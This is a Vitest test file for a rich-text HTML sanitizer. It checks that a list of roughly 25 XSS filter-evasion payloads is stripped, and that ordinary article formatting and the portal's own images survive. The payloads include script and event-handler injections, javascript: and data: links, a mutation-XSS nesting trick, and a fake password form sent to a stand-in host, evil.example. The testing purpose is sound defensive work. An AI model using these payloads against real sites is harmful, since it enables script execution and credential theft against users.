import { describe, expect, it } from 'vitest';
import { richTextToPlain, sanitizeRichText } from './sanitize-html';

// The XSS payloads a rich-text field must survive (OWASP's filter evasion cheat sheet, the usual suspects): what
// comes out has no script, no event handler, no style, no frame or object, and no link that runs code.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/files/00000000-0000-4000-8000-000000000000" onerror="alert(1)">',
  '<svg onload=alert(1)><circle r=1></circle></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<a href="javascript:alert(1)">clic</a>',
  '<a href="JaVaScRiPt:alert(1)">clic</a>',
  '<a href="jav&#x09;ascript:alert(1)">clic</a>',
  '<a href="data:text/html,<script>alert(1)</script>">clic</a>',
  '<a href="vbscript:msgbox(1)">clic</a>',
  '<p style="background:url(javascript:alert(1))">stile</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name="password"><button>Invia</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="//evil.example">protocollo relativo</a>',
  '"><script>alert(1)</script>',
  '<p>ok</p><!--<script>alert(1)</script>-->',
];

describe('sanitizeRichText', () => {
  it.each(PAYLOADS)('leaves nothing that runs code in %s', (payload) => {
    const clean = sanitizeRichText(payload);
    expect(clean).not.toMatch(/<script|<svg|<iframe|<object|<style|<form|<input|<meta|<base|<template|<math/i);
    expect(clean).not.toMatch(/\son[a-z]+\s*=|style=|javascript:|vbscript:|data:/i);
    expect(clean).not.toMatch(/evil\.example/);
  });

  it('keeps the formatting an article needs, and opens links in a new tab without referrer', () => {
    expect(
      sanitizeRichText(
        '<h2>Titolo</h2><p><strong>grassetto</strong>, <em>corsivo</em>, <u>sottolineato</u></p>' +
          '<ul><li>uno</li></ul><blockquote>citazione</blockquote><a href="https://example.com/a?b=1">link</a>',
      ),
    ).toBe(
      '<h2>Titolo</h2><p><strong>grassetto</strong>, <em>corsivo</em>, <u>sottolineato</u></p>' +
        '<ul><li>uno</li></ul><blockquote>citazione</blockquote>' +
        '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">link</a>',
    );
  });

  it("keeps images from the portal's own files only", () => {
    const own = '<img src="/api/files/0f0e0d0c-0b0a-4908-8706-050403020100" alt="foto" />';
    expect(sanitizeRichText(own)).toBe('<img src="/api/files/0f0e0d0c-0b0a-4908-8706-050403020100" alt="foto" />');
    expect(sanitizeRichText('<img src="https://example.com/x.png">')).toBe('');
  });

  it('gives the plain text of the body for the search', () => {
    expect(richTextToPlain('<h2>Titolo</h2><p>Primo &amp; secondo</p><ul><li>uno</li><li>due</li></ul>')).toBe(
      'Titolo Primo & secondo uno due',
    );
  });
});
